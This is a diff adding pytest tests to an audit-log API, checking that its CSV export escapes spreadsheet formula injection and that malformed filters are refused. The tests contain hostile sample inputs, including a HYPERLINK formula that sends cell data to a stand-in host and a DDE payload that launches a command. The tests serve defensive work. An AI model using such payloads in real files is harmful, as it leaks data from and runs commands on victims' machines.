@@ -471,3 +471,35 @@ async def test_retention_run_records_itself_and_purges_nothing(settings, engine)
             audit_events.c.action == "retention.run"))).one()
     assert after == before + 1 and run.channel == "cli"
     assert await asyncio.to_thread(cli.verify, settings) == 0
+
+
+async def test_the_csv_export_opens_as_text_in_a_spreadsheet(settings, engine) -> None:
+    school = next_urn()
+    drafts = [EntryDraft(
+        id=uuid.uuid4(), at=datetime.now(UTC), actor=actor, actor_role="la_officer",
+        action="review.viewed", channel="portal", school_urn=school,
+        child_key=secrets.token_hex(32), notification_id=None, purpose=purpose,
+    ) for actor, purpose in (('=HYPERLINK("http://x.example/?"&A1,"x")', "@SUM(1+1)"),
+                             ("+cmd|' /C calc'!A0", "-2+3"), ("\tofficer", "review"))]
+    async with engine.begin() as conn:
+        await append_entries(conn, [(d, Context(la_code="E08")) for d in drafts])
+    async with running(build_app(settings)) as client, client.stream(
+        "GET", "/v1/audit/events.csv", params={"school_urn": school}, headers=bearer(AUDITOR),
+    ) as resp:
+        content = "".join([chunk async for chunk in resp.aiter_text()])
+    rows = list(csv.DictReader(io.StringIO(content)))
+    assert [(r["actor"], r["purpose"]) for r in rows] == [
+        ('\'=HYPERLINK("http://x.example/?"&A1,"x")', "'@SUM(1+1)"),
+        ("'+cmd|' /C calc'!A0", "'-2+3"), ("'\tofficer", "review")]
+
+
+@pytest.mark.parametrize("params", [
+    {"child_key": "=1+1"}, {"child_key": "A" * 64}, {"child_key": "v2:" + "0" * 60},
+    {"school_urn": "=cmd"}, {"school_urn": "12345"}, {"school_urn": "10345a"},
+])
+async def test_filters_that_are_not_a_key_or_a_urn_are_refused(settings, params) -> None:
+    async with running(build_app(settings)) as client:
+        for path in ("/v1/audit/events", "/v1/audit/events.csv"):
+            resp = await client.get(path, params=params, headers=bearer(AUDITOR))
+            assert resp.status_code == 422, resp.text
+            assert resp.headers["content-type"].startswith("application/problem+json")
